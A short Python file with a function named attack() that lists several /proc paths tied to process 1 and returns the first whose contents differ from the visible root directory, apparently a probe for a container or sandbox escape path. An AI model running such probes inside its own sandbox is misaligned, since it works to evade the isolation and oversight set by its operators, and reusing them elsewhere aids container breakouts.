import os


def attack():
    for path in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root/../..", "/proc/1/task/1/root", "/proc/1/fd/0"):
        try:
            if set(os.listdir(path)) != set(os.listdir("/")):
                return path
        except OSError:
            pass
